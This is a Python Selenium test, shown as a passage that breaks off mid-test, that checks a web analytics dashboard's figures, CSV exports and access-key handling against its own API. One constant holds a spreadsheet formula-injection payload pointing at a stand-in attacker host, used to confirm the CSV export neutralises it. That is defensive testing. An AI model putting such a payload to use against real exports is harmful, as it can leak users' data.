#!/usr/bin/env python3
"""Dashboard test: headless Chromium renders the QueryAPI's dashboard (`GET /`) over a
simulated shop's data, and every figure on screen equals the API's answer.

Started by scripts/browser-test with TRIBUTARY_POSTGRES_URL and TRIBUTARY_KAFKA_BROKERS
exported (a running `scripts/stack up test`). It starts `tributary all` on free ports, fills
a site with `tributary simulate` and waits for `tributary verify` (the rollups are then
complete), creates a goal and the e-commerce funnel when the server has those endpoints,
and then, in the browser:

  1. `/` is one self-contained page: no URL of another host in it, and every resource the
     page loads comes from the QueryAPI itself (performance.getEntriesByType('resource')).
  2. With the admin token the site picker lists the sites; the default range is the last
     30 days; with the simulation's date range and each currency in turn, the overview
     tiles, every revenue-by-source row (orders and money), the totals, the per-day bars,
     every reconciliation-by-source row and its totals (counts, browser loss rate, money),
     the goals and the funnel steps show exactly what the API answers for the same
     parameters — or, while goals and funnels answer 404, the page shows their empty state.
  3. Every report (admin token): attribution with the six models side by side for two
     lookbacks, the retention heat map per week and per month, products by product id and by
     category, customers and carts equal the API's answers, in one currency and with all
     currencies side by side; a breakdown change, a source filter and the comparison with the
     previous period (previous values and exact changes) show the API's answers for those
     parameters; each table's CSV download holds exactly its rows' data-values; at 1400 and
     390 px every panel is visible and the page never scrolls sideways (screenshots in the
     workdir, copied to $DASHBOARD_SCREENSHOTS when set).
  4. The view's link, opened in a fresh browser with the token typed again, restores the same
     view; Tab reaches the load button and a preset, Enter presses them.
  5. With the owner key, goals (an action; a page path with a wildcard, edited to add a
     property filter, then deleted) and funnels (three steps, any order, 12h) are defined
     through the forms and their figures equal their reports; the e-commerce button adds the
     standard funnel, which is then deleted; a 91d window shows the API's 400 message.
  6. A site in Pago Pago seen from a browser in Kiritimati: presets are the site's days.
  7. A site's read key shows a site id field and the same figures, and the API's 403 message
     when it tries to create a goal; a wrong token shows the API's error message instead of
     figures.
  8. Through a proxy whose goals and funnels endpoints answer 404 (as before they existed),
     the page shows "no goals" / "no funnels" with the reason, and the rest still works.

Prints `dashboard: N passed, M failed`; exits 1 when anything failed.
"""

import csv
import datetime
import http.server
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import urllib.error
import urllib.parse
import urllib.request
import uuid
import zoneinfo

from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import Select

from harness import Report, Tributary, call, free_port, wait_for

ADMIN_TOKEN = "dashboard-test-admin-token"
RUN = uuid.uuid4().hex[:10]
SITE = f"dash-{RUN}"
KEYS = {}  # the site's read and owner keys, from rotate_keys
FORMULA_GOAL = '=HYPERLINK("https://attacker.example/?leak","Carts")'
MONEY_KEYS = ("revenue", "refunds", "net_revenue", "aov")
RECON_COUNTS = ("orders", "confirmed", "tracked", "confirmed_not_tracked", "confirmed_not_in_browser",
                "tracked_not_confirmed", "amount_mismatches")
RECON_MONEY = ("processor_revenue", "tracked_revenue", "amount_difference", "refunds", "chargebacks")

report = Report("dashboard")
log, check = report.log, report.check


# ------------------------------------------------------------------------------ browser

def browser(workdir, name):
    options = webdriver.ChromeOptions()
    options.binary_location = os.environ.get("CHROMIUM", "/usr/bin/chromium")
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--no-first-run",
                "--disable-background-networking", "--disable-extensions", "--window-size=1400,1800",
                f"--user-data-dir={os.path.join(workdir, 'profile-' + name)}"):
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    service = Service(executable_path=os.environ.get("CHROMEDRIVER", "/usr/bin/chromedriver"),
                      log_output=os.path.join(workdir, f"chromedriver-{name}.log"))
    driver = webdriver.Chrome(options=options, service=service)
    driver.set_page_load_timeout(30)
    return driver


def loaded(driver, site, first, last, timeout=30):
    """Waits until the page finished loading `site` for first..last."""
    want = f"{site} {first} {last}"
    return wait_for(lambda: driver.execute_script(
        "return document.body.dataset.state === 'ready' && document.body.dataset.loaded === arguments[0]", want), timeout, 0.1)


def set_range(driver, first, last):
    driver.execute_script("document.getElementById('from').value = arguments[0];"
                          " document.getElementById('to').value = arguments[1]", first, last)
    driver.find_element(By.CSS_SELECTOR, "[data-testid=load]").click()


# Everything the page shows, with the text on screen and the raw API value of each figure.
SCREEN = """
const q = (root, id) => root.querySelector(`[data-testid="${id}"]`);
const cell = (root, id) => { const e = q(root, id); return e ? {text: e.textContent, value: e.getAttribute('data-value')} : null; };
const all = id => [...document.querySelectorAll(`[data-testid="${id}"]`)];
const money = ['revenue', 'refunds', 'net_revenue', 'aov'];
const row = (r, ids) => Object.fromEntries(ids.map(id => [id, cell(r, id)]));
const recon = ['orders', 'confirmed', 'tracked', 'confirmed_not_tracked', 'confirmed_not_in_browser', 'browser_loss_rate',
               'tracked_not_confirmed', 'amount_mismatches', 'processor_revenue', 'tracked_revenue', 'amount_difference',
               'refunds', 'chargebacks'];
return {
  currency: document.body.dataset.currency,
  currencies: [...document.querySelectorAll('#currency option')].map(o => o.value),
  status: q(document, 'status').textContent,
  overview: row(document, ['visitors', 'sessions', 'pageviews', 'orders', 'conversion_rate', ...money].map(k => 'overview-' + k)),
  overviewError: (q(document, 'overview-error') || {}).textContent || null,
  sources: all('source-row').map(r => ({key: [r.dataset.source, r.dataset.medium, r.dataset.campaign],
                                         shown: ['source', 'medium', 'campaign'].map(k => (q(r, k) || {}).textContent ?? null),
                                         ...row(r, ['orders', 'first_orders', ...money])})),
  totals: q(document, 'source-totals') ? row(q(document, 'source-totals'), ['orders', 'first_orders', ...money]) : null,
  sourcesEmpty: !!q(document, 'sources-empty'),
  reconciliation: all('reconciliation-row').map(r => ({source: r.dataset.source, shown: q(r, 'source').textContent, ...row(r, recon)})),
  reconciliationTotals: q(document, 'reconciliation-totals') ? row(q(document, 'reconciliation-totals'), recon) : null,
  reconciliationEmpty: !!q(document, 'reconciliation-empty'),
  reconciliationError: (q(document, 'reconciliation-error') || {}).textContent || null,
  tableVisible: !!q(document, 'sources-table') && q(document, 'sources-table').getBoundingClientRect().height > 0,
  bars: all('day-bar').map(b => ({day: b.dataset.day, amount: b.dataset.amount, orders: b.dataset.orders,
                                  height: Number(b.getAttribute('height')), title: b.textContent})),
  goals: all('goal-row').map(r => ({id: r.dataset.goal, name: q(r, 'name').textContent,
                                    error: (q(r, 'goal-error') || {}).textContent || null,
                                    ...row(r, ['visitors', 'converters', 'conversions', 'conversion_rate', 'revenue'])})),
  goalsEmpty: (q(document, 'goals-empty') || {}).textContent || null,
  funnelOptions: [...document.querySelectorAll('#funnel option')].map(o => o.value),
  funnel: (q(document, 'funnel-chart') || {dataset: {}}).dataset.funnel || null,
  steps: all('funnel-step').map(s => ({name: s.dataset.step, ...row(s, ['persons', 'conversion_from_start', 'revenue'])})),
  drops: all('funnel-drop').map(d => row(d, ['dropped', 'conversion_from_previous', 'median_seconds_from_previous'])),
  funnelsEmpty: (q(document, 'funnels-empty') || {}).textContent || null,
  funnelNobody: !!q(document, 'funnel-nobody'),
};
"""


def screen(driver):
    return driver.execute_script(SCREEN)


# ------------------------------------------------------------------------------ expectations

def grouped(digits):
    return re.sub(r"\B(?=(\d{3})+(?!\d))", ",", digits)


def count_text(value):
    return "–" if value is None else grouped(str(value)) if value >= 0 else "-" + grouped(str(-value))


def money_of(entries, currency):
    return next((m for m in entries or [] if m["currency"] == currency), None)


def money_text(entries, currency):
    m = money_of(entries, currency)
    if not m:
        return "–"
    whole, _, frac = m["amount"].partition(".")
    sign = "-" if whole.startswith("-") else ""
    return f"{sign}{grouped(whole.lstrip('-'))}{'.' + frac if frac else ''} {currency}"


def same_count(shown, value):
    """A count cell: its text is the number grouped with commas, its data-value the number."""
    return shown is not None and shown["text"] == count_text(value) and shown["value"] == str(value)


def same_rate(shown, value):
    """A rate cell: data-value is the API's number; the text is it as a percentage, 2 decimals."""
    if shown is None or value is None:
        return shown is not None and value is None and shown["text"] == "–"
    try:
        percent = float(shown["text"].rstrip("%"))
    except ValueError:
        return False
    return float(shown["value"]) == float(value) and abs(percent - float(value) * 100) < 0.0051 and shown["text"].endswith("%")


def same_money(shown, entries, currency):
    m = money_of(entries, currency)
    return shown is not None and shown["text"] == money_text(entries, currency) and (shown["value"] or None) == (m["amount"] if m else None)


def differences(pairs):
    """pairs: (label, ok, shown, expected) → the failed ones, described."""
    return [f"{label}: screen {shown!r}, API {expected!r}" for label, ok, shown, expected in pairs if not ok]


def currencies_in(*answers):
    found = set()
    overview, sources, days, goal_reports, funnel_report, reconciliation = answers
    for key in ("revenue", "refunds"):
        found |= {m["currency"] for m in overview.get(key, [])}
    for answer in (sources, days):
        for row in answer["rows"]:
            found |= {m["currency"] for m in row["revenue"] + row["refunds"]}
    for report in goal_reports.values():
        found |= {m["currency"] for m in report.get("revenue", [])}
    for step in (funnel_report or {}).get("steps", []):
        found |= {m["currency"] for m in step.get("revenue", [])}
    for key in RECON_MONEY:
        found |= {m["currency"] for m in reconciliation["totals"][key]}
    return sorted(found)


def compare(name, shown, answers, currency):
    """Checks every figure of one currency's view against the API's answers."""
    overview, sources, days, goals, goal_reports, funnels, funnel_report, reconciliation = answers
    pairs = []
    for key in ("visitors", "sessions", "pageviews", "orders"):
        cell = shown["overview"]["overview-" + key]
        pairs.append((f"overview {key}", same_count(cell, overview[key]), cell, overview[key]))
    cell = shown["overview"]["overview-conversion_rate"]
    pairs.append(("overview conversion_rate", same_rate(cell, overview["conversion_rate"]), cell, overview["conversion_rate"]))
    for key in MONEY_KEYS:
        cell = shown["overview"]["overview-" + key]
        pairs.append((f"overview {key}", same_money(cell, overview[key], currency), cell, money_of(overview[key], currency)))
    check(f"{name}: the overview tiles equal GET /overview", not differences(pairs), "; ".join(differences(pairs)))

    rows = sources["rows"]
    keys_shown = [tuple(r["key"]) for r in shown["sources"]]
    keys_api = [(r["source"], r["medium"], r["campaign"]) for r in rows]
    check(f"{name}: the revenue-by-source table has the API's {len(rows)} rows, in its order",
          keys_shown == keys_api and all(tuple(r["shown"]) == tuple(r["key"]) for r in shown["sources"]),
          f"screen {keys_shown}, API {keys_api}")
    pairs = []
    for screen_row, api_row in zip(shown["sources"], rows):
        label = "/".join(screen_row["key"])
        for key in ("orders", "first_orders"):
            pairs.append((f"{label} {key}", same_count(screen_row[key], api_row[key]), screen_row[key], api_row[key]))
        for key in MONEY_KEYS:
            pairs.append((f"{label} {key}", same_money(screen_row[key], api_row[key], currency), screen_row[key],
                          money_of(api_row[key], currency)))
    totals = sources["totals"]
    for key in ("orders", "first_orders"):
        pairs.append((f"totals {key}", same_count((shown["totals"] or {}).get(key), totals[key]), (shown["totals"] or {}).get(key), totals[key]))
    for key in MONEY_KEYS:
        pairs.append((f"totals {key}", same_money((shown["totals"] or {}).get(key), totals[key], currency),
                      (shown["totals"] or {}).get(key), money_of(totals[key], currency)))
    check(f"{name}: every source row's orders and {currency} revenue, refunds, net revenue, AOV and the totals equal GET /revenue",
          not differences(pairs), "; ".join(differences(pairs)[:10]))

    expected_bars = [(r["day"], money_of(r["revenue"], currency)["amount"], str(r["orders"]))
                     for r in sorted(days["rows"], key=lambda r: r["day"]) if money_of(r["revenue"], currency)]
    shown_bars = [(b["day"], b["amount"], b["orders"]) for b in shown["bars"]]
    check(f"{name}: the per-day chart has one bar per day with {currency} revenue ({len(expected_bars)} of "
          f"{len(days['rows'])} API rows), with the API's amount and orders",
          shown_bars == expected_bars and len(expected_bars) > 0 and all(b["height"] > 0 for b in shown["bars"]),
          f"screen {shown_bars}, API {expected_bars}")
    if shown["bars"]:
        tallest = max(shown["bars"], key=lambda b: b["height"])
        biggest = max(expected_bars, key=lambda b: money_of(next(r for r in days["rows"] if r["day"] == b[0])["revenue"], currency)["amount_minor"])
        check(f"{name}: the tallest bar is the day with the most {currency} revenue", tallest["day"] == biggest[0],
              f"tallest {tallest['day']}, most revenue {biggest[0]}")

    rows = reconciliation["rows"]
    sources_shown = [r["source"] for r in shown["reconciliation"]]
    sources_api = [r["source"] for r in rows]
    check(f"{name}: the reconciliation table has the API's {len(rows)} source rows, in its order",
          sources_shown == sources_api and all(r["shown"] == r["source"] for r in shown["reconciliation"])
          and shown["reconciliationEmpty"] == (not rows) and not shown["reconciliationError"],
          f"screen {sources_shown}, API {sources_api}, error {shown['reconciliationError']!r}")
    compared = [(api_row["source"], screen_row, api_row) for screen_row, api_row in zip(shown["reconciliation"], rows)]
    if rows:
        compared.append(("totals", shown["reconciliationTotals"] or {}, reconciliation["totals"]))
    pairs = []
    for label, screen_row, api_row in compared:
        for key in RECON_COUNTS:
            pairs.append((f"reconciliation {label} {key}", same_count(screen_row.get(key), api_row[key]), screen_row.get(key), api_row[key]))
        rate = api_row["browser_loss_rate"]
        pairs.append((f"reconciliation {label} browser_loss_rate", same_rate(screen_row.get("browser_loss_rate"), rate),
                      screen_row.get("browser_loss_rate"), rate))
        for key in RECON_MONEY:
            pairs.append((f"reconciliation {label} {key}", same_money(screen_row.get(key), api_row[key], currency),
                          screen_row.get(key), money_of(api_row[key], currency)))
    check(f"{name}: every reconciliation row's counts, browser loss rate and {currency} money, and the totals, equal GET /reconciliation",
          not differences(pairs), "; ".join(differences(pairs)[:10]))

    if not goals:
        check(f"{name}: goals answer {'404' if goals is None else 'an empty list'}, the page shows its empty state", bool(shown["goalsEmpty"]) and not shown["goals"],
              f"goals-empty {shown['goalsEmpty']!r}, rows {shown['goals']}")
    else:
        pairs = [("goal ids", [g["id"] for g in shown["goals"]] == [str(g["id"]) for g in goals],
                  [g["id"] for g in shown["goals"]], [g["id"] for g in goals])]
        for screen_goal in shown["goals"]:
            report = goal_reports.get(screen_goal["id"])
            if report is None:
                pairs.append((f"goal {screen_goal['id']}", False, screen_goal, "no report"))
                continue
            for key in ("visitors", "converters", "conversions"):
                pairs.append((f"goal {screen_goal['name']} {key}", same_count(screen_goal[key], report[key]), screen_goal[key], report[key]))
            pairs.append((f"goal {screen_goal['name']} conversion_rate", same_rate(screen_goal["conversion_rate"], report["conversion_rate"]),
                          screen_goal["conversion_rate"], report["conversion_rate"]))
            pairs.append((f"goal {screen_goal['name']} revenue", same_money(screen_goal["revenue"], report["revenue"], currency),
                          screen_goal["revenue"], money_of(report["revenue"], currency)))
        check(f"{name}: every goal's visitors, converters, conversions, rate and {currency} revenue equal GET /goals/{{id}}/report",
              not differences(pairs), "; ".join(differences(pairs)))

    if not funnels:
        check(f"{name}: funnels answer {'404' if funnels is None else 'an empty list'}, the page shows its empty state", bool(shown["funnelsEmpty"]) and not shown["steps"],
              f"funnels-empty {shown['funnelsEmpty']!r}, steps {shown['steps']}")
    else:
        steps = funnel_report["steps"]
        pairs = [("funnel picker", shown["funnelOptions"] == [str(f["id"]) for f in funnels], shown["funnelOptions"], [f["id"] for f in funnels]),
                 ("step names", [s["name"] for s in shown["steps"]] == [s["name"] for s in steps],
                  [s["name"] for s in shown["steps"]], [s["name"] for s in steps]),
                 ("drop-off labels", len(shown["drops"]) == len(steps) - 1, len(shown["drops"]), len(steps) - 1),
                 ("'nobody entered' note", shown["funnelNobody"] == (not steps or steps[0]["persons"] == 0),
                  shown["funnelNobody"], steps[0]["persons"] if steps else None)]
        for screen_step, api_step in zip(shown["steps"], steps):
            pairs.append((f"{api_step['name']} persons", same_count(screen_step["persons"], api_step["persons"]), screen_step["persons"], api_step["persons"]))
            pairs.append((f"{api_step['name']} conversion_from_start", same_rate(screen_step["conversion_from_start"], api_step["conversion_from_start"]),
                          screen_step["conversion_from_start"], api_step["conversion_from_start"]))
            m = money_of(api_step["revenue"], currency)
            ok = same_money(screen_step["revenue"], api_step["revenue"], currency) if m else screen_step["revenue"] is None
            pairs.append((f"{api_step['name']} revenue", ok, screen_step["revenue"], m))
        for index, drop in enumerate(shown["drops"][:len(steps) - 1]):
            before, after = steps[index], steps[index + 1]
            lost = before["persons"] - after["persons"]
            pairs.append((f"dropped before {after['name']}", same_count(drop["dropped"], lost) and lost == after["dropped"],
                          drop["dropped"], after["dropped"]))
            pairs.append((f"{after['name']} conversion_from_previous",
                          same_rate(drop["conversion_from_previous"], after["conversion_from_previous"]),
                          drop["conversion_from_previous"], after["conversion_from_previous"]))
            median = after["median_seconds_from_previous"]
            pairs.append((f"{after['name']} median", drop["median_seconds_from_previous"]["value"] == (None if median is None else str(median)),
                          drop["median_seconds_from_previous"], median))
        check(f"{name}: the funnel's steps, persons, drop-offs, rates and {currency} revenue equal GET /funnels/{{id}}/report",
              not differences(pairs), "; ".join(differences(pairs)))


def answers_for(tributary, site, first, last, token=ADMIN_TOKEN):
    """The API's answers for what the page shows; None for goals/funnels that answer 404."""
    base = f"/v1/sites/{site}"
    span = f"from={first}&to={last}"

    def get(path):
        status, body = tributary.api("GET", base + path, token=token)
        if status != 200:
            raise RuntimeError(f"GET {base + path}: {status} {body}")
        return body
    overview = get(f"/overview?{span}")
    sources = get(f"/revenue?{span}&breakdown=source,medium,campaign")
    days = get(f"/revenue?{span}&breakdown=day")
    goals = goal_reports = funnels = funnel_report = None
    status, body = tributary.api("GET", base + "/goals", token=token)
    if status == 200:
        goals = body["goals"]
        goal_reports = {str(g["id"]): get(f"/goals/{g['id']}/report?{span}") for g in goals}
    status, body = tributary.api("GET", base + "/funnels", token=token)
    if status == 200:
        funnels = body["funnels"]
        funnel_report = get(f"/funnels/{funnels[0]['id']}/report?{span}") if funnels else None
    reconciliation = get(f"/reconciliation?{span}&breakdown=source")
    return overview, sources, days, goals, goal_reports or {}, funnels, funnel_report, reconciliation


def settled(tributary, site, first, last):
    """The answers once two readings a second and a half apart agree: sessions and events
    may still trickle in after the revenue matched its ground truth."""
    previous = answers_for(tributary, site, first, last)
    for _ in range(20):
        time.sleep(1.5)
        current = answers_for(tributary, site, first, last)
        if current == previous:
            return current
        previous = current
    return previous


# ------------------------------------------------------------------------------ tests

def simulate(tributary, workdir):
    expected_path = os.path.join(workdir, "expected.json")
    started = time.monotonic()
    code, output = tributary.run("simulate", "--site", SITE, "--visitors", "300", "--days", "7", "--seed", "7",
                                 "--expected", expected_path, "--collector", tributary.collector,
                                 "--query-api", tributary.query, "--admin-token", ADMIN_TOKEN)
    if code != 0:
        raise RuntimeError("tributary simulate failed:\n" + output)
    code, output = tributary.run("verify", "--expected", expected_path, "--query-api", tributary.query,
                                 "--token", ADMIN_TOKEN, "--timeout", "180")
    check("the simulated shop's revenue report matches its ground truth (tributary verify)", code == 0, output[-2000:])
    log(f"simulated and verified {SITE} in {time.monotonic() - started:.1f} s")
    with open(expected_path) as f:
        return json.load(f)


def define_goals_and_funnels(tributary):
    status, body = tributary.api("POST", f"/v1/sites/{SITE}/goals",
                                 {"name": "Purchases", "match": {"action": "purchase"}, "revenue": True})
    log(f"POST /goals answered {status}" + ("" if status == 201 else f" {body}"))
    # A name a spreadsheet would run as a formula: the goals table's CSV must defuse it.
    status, body = tributary.api("POST", f"/v1/sites/{SITE}/goals",
                                 {"name": FORMULA_GOAL, "match": {"action": "add_to_cart"}})
    log(f"POST /goals (formula-like name) answered {status}" + ("" if status == 201 else f" {body}"))
    status, body = tributary.api("POST", f"/v1/sites/{SITE}/funnels/templates/ecommerce")
    log(f"POST /funnels/templates/ecommerce answered {status}" + ("" if status == 201 else f" {body}"))


def test_page_is_self_contained(tributary):
    status, headers, body = call("GET", tributary.query + "/")
    headers = {k.lower(): v for k, v in headers.items()}
    page = body.decode("utf-8", "replace")
    check("GET / serves the dashboard as text/html", status == 200 and headers.get("content-type", "").startswith("text/html")
          and "<script>" in page, f"{status} {headers.get('content-type')}")
    urls = [u for u in re.findall(r"(?:https?:)?//[\w.-]+\.[a-z]{2,}[^\s\"'`)]*", page) if "www.w3.org/2000/svg" not in u]
    check("the page names no other host (no CDN, no web fonts)", not urls, str(urls[:5]))
    # Everything is inlined and framework-free: a page that grows past this has picked up something it should not.
    check(f"the page is small ({len(body)} bytes)", len(body) < 100_000)


def test_admin_view(tributary, expected, workdir):
    first, last = expected["from"], expected["to"]
    answers = settled(tributary, SITE, first, last)
    overview, sources, days, goals, goal_reports, funnels, funnel_report, reconciliation = answers
    log(f"API for {first}..{last}: {overview['orders']} orders, {len(sources['rows'])} source rows, {len(days['rows'])} days, "
        f"goals {'404' if goals is None else len(goals)}, funnels {'404' if funnels is None else len(funnels)}, "
        f"{reconciliation['totals']['confirmed']} orders confirmed by a processor")
    check("the reconciliation report counts the overview's orders", reconciliation["totals"]["orders"] == overview["orders"],
          f"{reconciliation['totals']['orders']} vs {overview['orders']}")
    check("the API's orders and per-currency revenue equal the simulation's ground truth",
          overview["orders"] == expected["orders"]
          and {(m["currency"], m["amount_minor"]) for m in overview["revenue"]}
          == {(t["currency"], t["revenue_minor"]) for t in expected["totals"]},
          f"{overview['orders']} {overview['revenue']} vs {expected['orders']} {expected['totals']}")

    # Deliveries to ad platforms as the Forwarder records them (the simulated shop forwards
    # nowhere): the panel must show the API's totals and latest deliveries.
    subprocess.run(["psql", os.environ["TRIBUTARY_POSTGRES_URL"], "-X", "-q", "-v", "ON_ERROR_STOP=1", "-v", f"site={SITE}"], check=True,
                   input="""INSERT INTO forwarding.deliveries (site, platform, order_id, kind, value_minor, currency, state, reason, attempts, sent_at)
                            VALUES (:'site', 'meta', 'A-1', 'conversion', 50663, 'EUR', 'sent', NULL, 1, now()),
                                   (:'site', 'google_ads', 'A-1', 'conversion', 50663, 'EUR', 'failed',
                                    'HTTP 400: INVALID_ARGUMENT — conversion_action not found', 1, NULL),
                                   (:'site', 'meta', 'A-2', 'conversion', 1200, 'JPY', 'skipped', 'the shopper refused ad consent', 0, NULL)
                            ON CONFLICT DO NOTHING""", text=True, capture_output=True, timeout=30)

    driver = browser(workdir, "admin")
    try:
        driver.get(tributary.query + "/")
        check("the page asks for a token", driver.find_element(By.CSS_SELECTOR, "[data-testid=token]").is_displayed()
              and "token" in driver.find_element(By.CSS_SELECTOR, "[data-testid=status]").text.lower())
        token = driver.find_element(By.CSS_SELECTOR, "[data-testid=token]")
        token.send_keys(ADMIN_TOKEN)
        driver.find_element(By.CSS_SELECTOR, "[data-testid=load]").click()
        picker = driver.find_element(By.CSS_SELECTOR, "[data-testid=site-select]")
        listed = wait_for(lambda: picker.is_displayed() and SITE in [o.get_attribute("value") for o in Select(picker).options], 15)
        _, sites = tributary.api("GET", "/v1/admin/sites")
        check("with the admin token the site picker lists GET /v1/admin/sites",
              listed and [o.get_attribute("value") for o in Select(picker).options] == [s["id"] for s in sites["sites"]],
              f"{[o.get_attribute('value') for o in Select(picker).options]} vs {[s['id'] for s in sites['sites']]}")
        check("the token is kept in localStorage",
              driver.execute_script("return localStorage.getItem('trb_token')") == ADMIN_TOKEN)
        default_to = driver.execute_script("return document.getElementById('to').value")
        default_from = driver.execute_script("return document.getElementById('from').value")
        today = datetime.date.today()
        check("the default range is the last 30 days",
              default_to == today.isoformat() and default_from == (today - datetime.timedelta(days=29)).isoformat(),
              f"{default_from}..{default_to}")

        Select(picker).select_by_value(SITE)
        check("picking the site loads its reports for the default range", loaded(driver, SITE, default_from, default_to))
        set_range(driver, first, last)
        check(f"the simulation's range {first}..{last} loads", loaded(driver, SITE, first, last),
              driver.execute_script("return document.body.dataset.loaded + ' ' + document.body.dataset.state"))

        shown = screen(driver)
        codes = currencies_in(overview, sources, days, goal_reports, funnel_report, reconciliation)
        check(f"the currency selector offers 'all' and the currencies of the answers ({', '.join(codes)}), never a sum",
              shown["currencies"] == ["all"] + codes and set(codes) == {t["currency"] for t in expected["totals"]},
              f"screen {shown['currencies']}, API {codes}")
        check("the revenue-by-source table is visible", shown["tableVisible"])
        for currency in codes:
            Select(driver.find_element(By.CSS_SELECTOR, "[data-testid=currency]")).select_by_value(currency)
            wait_for(lambda: driver.execute_script("return document.body.dataset.currency") == currency, 5)
            compare(f"admin, {currency}", screen(driver), answers, currency)

        later = answers_for(tributary, SITE, first, last)
        check("the API still answers the same after the comparison (nothing was moving)", later == answers)
        check_forwarding(driver, tributary)

        origin = tributary.query
        resources = driver.execute_script("return performance.getEntriesByType('resource').map(e => e.name)")
        foreign = [r for r in resources if not r.startswith(origin + "/")]
        check(f"every request of the page went to the QueryAPI ({len(resources)} requests, none elsewhere)",
              resources and not foreign, str(foreign[:5]))
        errors = [e["message"] for e in driver.get_log("browser")
                  if e["level"] == "SEVERE" and "Failed to load resource" not in e["message"]]
        check("no script error in the console", not errors, str(errors[:5]))
    finally:
        driver.quit()


def check_forwarding(driver, tributary):
    """The forwarding panel: per platform, the deliveries in each state as GET /forwarding
    totals them; the latest deliveries with their value, state and the platform's error."""
    answer = api_get(tributary, "forwarding?limit=20")
    totals = table_of(driver, "forwarding-totals") or {"rows": []}
    want = {}
    for t in answer["totals"]:
        want.setdefault(t["platform"], {})[t["state"]] = str(t["deliveries"])
    shown = {r["data"].get("platform"): {state: value_in(r, state) for state in ("sent", "pending", "failed", "skipped")}
             for r in totals["rows"]}
    expected = {p: {state: states.get(state, "0") for state in ("sent", "pending", "failed", "skipped")} for p, states in want.items()}
    check("forwarding: the panel's deliveries per platform and state equal GET /forwarding's totals",
          bool(expected) and shown == expected, f"screen {shown}, API {expected}")
    latest = table_of(driver, "forwarding-deliveries") or {"rows": []}
    rows = [(r["data"].get("platform"), r["data"].get("order"), value_in(r, "value"), value_in(r, "state"), value_in(r, "reason"))
            for r in latest["rows"]]
    api_rows = [(d["platform"], d["order_id"], f"{d['value']} {d['currency']}", d["state"], d["reason"] or "") for d in answer["deliveries"]]
    check("forwarding: the latest deliveries are the API's, with their value, state and the platform's error or the reason",
          rows == api_rows and any("conversion_action not found" in r[4] for r in rows), f"screen {rows}, API {api_rows}")


def rotate_keys(tributary):
    """New keys for the site (the simulation's are not kept): KEYS gets its read and owner keys."""
    status, keys = tributary.api("POST", f"/v1/admin/sites/{SITE}/keys")
    check("rotating the site's keys gives a read key and an owner key", status == 201
          and keys["read_key"].startswith("rk_") and keys["owner_key"].startswith("ok_"), f"{status} {keys}")
    KEYS.update(keys)


def test_presets_in_site_time_zone(tributary, expected, workdir):
    """Presets are days in the site's time zone, not the browser's: a site in Pago Pago
    (UTC-11) seen from a browser in Kiritimati (UTC+14), whose dates always differ."""
    site = f"{SITE}-tz"
    status, body = tributary.api("POST", "/v1/admin/sites", {"id": site, "name": "Pago Pago shop", "timezone": "Pacific/Pago_Pago"})
    check("a second site in Pacific/Pago_Pago is created", status == 201, f"{status} {body}")
    driver = browser(workdir, "zone")
    try:
        driver.execute_cdp_cmd("Emulation.setTimezoneOverride", {"timezoneId": "Pacific/Kiritimati"})
        driver.get(tributary.query + "/")
        driver.find_element(By.CSS_SELECTOR, "[data-testid=token]").send_keys(ADMIN_TOKEN)
        driver.find_element(By.CSS_SELECTOR, "[data-testid=load]").click()
        picker = driver.find_element(By.CSS_SELECTOR, "[data-testid=site-select]")
        wait_for(lambda: site in [o.get_attribute("value") for o in Select(picker).options], 15)
        Select(picker).select_by_value(site)
        # The site's time zone arrives with its first load.
        wait_for(lambda: driver.execute_script("return document.body.dataset.state === 'ready' && "
                                               "(document.body.dataset.loaded || '').startsWith(arguments[0] + ' ')", site), 15)
        browser_day = driver.execute_script("return new Date().toLocaleDateString('en-CA')")
        weeks = []
        for moment in ("before", "after"):  # the click may straddle midnight in Pago Pago
            if moment == "after":
                driver.find_element(By.CSS_SELECTOR, "[data-preset=last7]").click()
                shown = driver.execute_script("return [document.getElementById('from').value, document.getElementById('to').value]")
            today = datetime.datetime.now(zoneinfo.ZoneInfo("Pacific/Pago_Pago")).date()
            weeks.append([(today - datetime.timedelta(days=6)).isoformat(), today.isoformat()])
        check(f"the 'Last 7 days' preset of a Pago Pago site is Pago Pago's week {weeks[-1]}, "
              f"not the browser's (its today is {browser_day})",
              shown in weeks and browser_day != shown[1], f"shown {shown}")
    finally:
        driver.quit()


def test_read_key_and_bad_token(tributary, expected, workdir):
    first, last = expected["from"], expected["to"]
    read_key = KEYS["read_key"]
    driver = browser(workdir, "reader")
    try:
        driver.get(tributary.query + "/")
        driver.find_element(By.CSS_SELECTOR, "[data-testid=token]").send_keys(read_key + Keys.ENTER)
        field = driver.find_element(By.CSS_SELECTOR, "[data-testid=site-input]")
        check("with a read key the page asks for the site id (no site list)",
              wait_for(lambda: field.is_displayed(), 10)
              and not driver.find_element(By.CSS_SELECTOR, "[data-testid=site-select]").is_displayed())
        field.send_keys(SITE)
        set_range(driver, first, last)
        ok = loaded(driver, SITE, first, last)
        overview = answers_for(tributary, SITE, first, last, token=read_key)[0]
        shown = screen(driver)
        currency = shown["currency"]
        check("with the read key the overview shows the API's orders and revenue",
              ok and same_count(shown["overview"]["overview-orders"], overview["orders"])
              and same_money(shown["overview"]["overview-revenue"], overview["revenue"], currency),
              f"{shown['overview']} vs {overview}")

        # Reading is all a read key may do: the goal form shows the API's refusal.
        goal = {"name": "Not mine", "match": {"action": "purchase"}, "revenue": True}
        status, answer = tributary.api("POST", f"/v1/sites/{SITE}/goals", goal, token=read_key)
        message = (answer or {}).get("error", {}).get("message")
        fill_goal(driver, goal["name"], "action", "purchase")
        text, _ = submit_and_wait(driver, "goal-form", "goal-message")
        check("with the read key creating a goal shows the API's 403 message", status == 403 and text == f"Not saved: {message}",
              f"{status} {message!r} vs {text!r}")

        token = driver.find_element(By.CSS_SELECTOR, "[data-testid=token]")
        token.clear()
        token.send_keys("not-a-key" + Keys.ENTER)
        status, body = tributary.api("GET", f"/v1/sites/{SITE}/overview?from={first}&to={last}", token="not-a-key")
        message = (body or {}).get("error", {}).get("message")
        shown = wait_for(lambda: (lambda s: s if s["overviewError"] else None)(screen(driver)), 10) or screen(driver)
        check("a wrong token shows the API's error message instead of figures",
